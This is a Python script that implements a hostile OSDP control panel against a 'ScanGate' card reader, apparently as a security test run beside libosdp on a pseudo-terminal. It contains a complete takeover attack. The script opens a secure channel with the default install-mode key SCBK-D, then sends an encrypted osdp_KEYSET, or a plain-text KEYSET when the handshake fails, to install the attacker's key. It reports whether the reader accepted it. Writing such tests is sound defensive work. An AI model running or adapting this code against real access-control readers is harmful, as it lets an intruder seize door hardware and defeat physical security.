#!/usr/bin/env python3
"""A hostile control panel for ScanGate's OSDP reader: a device on the RS-485 bus that tries to take the
reader over with the default key SCBK-D (install mode) and its own osdp_KEYSET.

Written apart from ScanGate and from libosdp: the frames, CRC, session keys, cryptograms, MAC chain and
encryption come from osdp_sc_vectors.py (the spec's formulas with PyPI `cryptography`). It talks raw bytes
on a file descriptor (the controller side of the pseudo-terminal that osdp_control_panel.py owns, between
two runs of libosdp's CP), so it shares the line with the real panel as a second device on the bus would.

attack(fd, address, key) tries, in order:
  1. CHLNG with key selector 0 (SCBK-D);
  2. if the reader answered CCRYPT: checks its cryptogram, sends SCRYPT and, on RMAC_I, KEYSET with
     `key` encrypted (SCS_17), as an install-mode panel would; otherwise SCRYPT anyway (no handshake), then
     KEYSET in plain text;
and returns every step with the reply's code (and NAK code), plus took_over: the reader ACKed the KEYSET.

Standalone: osdp_attacker_cp.py DEVICE ADDRESS KEYHEX prints the result as JSON.
"""
import json
import os
import select
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from osdp_sc_vectors import Session, crc16_aug_ccitt, frame  # noqa: E402

SCBK_D = bytes(range(0x30, 0x40))
NAMES = {0x40: "ACK", 0x41: "NAK", 0x76: "CCRYPT", 0x78: "RMAC_I", 0x46: "PDCAP", 0x45: "PDID"}


def read_reply(fd, address, timeout=1.5):
    """The first well-formed reply frame from `address` (reply bit set) within `timeout`, or None."""
    buf = b""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], max(0.0, deadline - time.monotonic()))
        if ready:
            try:
                buf += os.read(fd, 4096)
            except (BlockingIOError, OSError):
                pass
        while True:
            start = buf.find(b"\x53")
            if start < 0:
                buf = b""
                break
            buf = buf[start:]
            if len(buf) < 5:
                break
            length = buf[2] | buf[3] << 8
            if length < 8 or length > 1440:
                buf = buf[1:]
                continue
            if len(buf) < length:
                break
            packet, rest = buf[:length], buf[length:]
            crc = crc16_aug_ccitt(packet[:-2]).to_bytes(2, "little")
            if packet[-2:] == crc and packet[1] == (address | 0x80):
                return packet
            buf = buf[1:] if packet[-2:] != crc else rest
    return None


def describe(packet):
    if packet is None:
        return {"reply": None}
    control = packet[4]
    offset = 5 + (packet[5] if control & 0x08 else 0)
    code = packet[offset]
    out = {"reply": NAMES.get(code, "0x%02X" % code), "scb": packet[6] if control & 0x08 else None}
    if code == 0x41 and not control & 0x08:
        out["nak"] = packet[offset + 1]
    return out


def drain(fd):
    while True:
        ready, _, _ = select.select([fd], [], [], 0)
        if not ready:
            return
        try:
            if not os.read(fd, 4096):
                return
        except (BlockingIOError, OSError):
            return


def attack(fd, address, key, rnd_a=bytes.fromhex("5A5B5C5D5E5F6061")):
    steps = []
    drain(fd)

    def send(name, data):
        os.write(fd, data)
        packet = read_reply(fd, address)
        step = {"sent": name}
        step.update(describe(packet))
        steps.append(step)
        return packet

    took_over = False
    reply = send("CHLNG SCBK-D", frame(address, 0, 0x76, rnd_a, scb=b"\x03\x11\x00"))
    if reply is not None and describe(reply)["reply"] == "CCRYPT":
        rnd_b = reply[8 + 1 + 8:8 + 1 + 16]
        s = Session(SCBK_D, rnd_a, rnd_b)
        steps[-1]["cryptogram_ok"] = reply[8 + 1 + 16:8 + 1 + 32] == s.client_cryptogram
        reply = send("SCRYPT SCBK-D", frame(address, 1, 0x77, s.server_cryptogram, scb=b"\x03\x13\x00"))
        if reply is not None and describe(reply)["reply"] == "RMAC_I":
            reply = send("KEYSET SCS_17", frame(address, 2, 0x75, b"\x01\x10" + key, scb=b"\x02\x17",
                                                session=s, is_command=True, encrypt=True))
            took_over = reply is not None and describe(reply)["reply"] == "ACK"
    else:
        s = Session(SCBK_D, rnd_a, bytes(8))
        send("SCRYPT SCBK-D", frame(address, 1, 0x77, s.server_cryptogram, scb=b"\x03\x13\x00"))
        reply = send("KEYSET plain", frame(address, 2, 0x75, b"\x01\x10" + key))
        took_over = reply is not None and describe(reply)["reply"] == "ACK"
    return {"steps": steps, "took_over": took_over}


def main():
    device, address, key = sys.argv[1], int(sys.argv[2]), bytes.fromhex(sys.argv[3])
    fd = os.open(device, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    try:
        json.dump(attack(fd, address, key), sys.stdout)
        sys.stdout.write("\n")
    finally:
        os.close(fd)


if __name__ == "__main__":
    main()
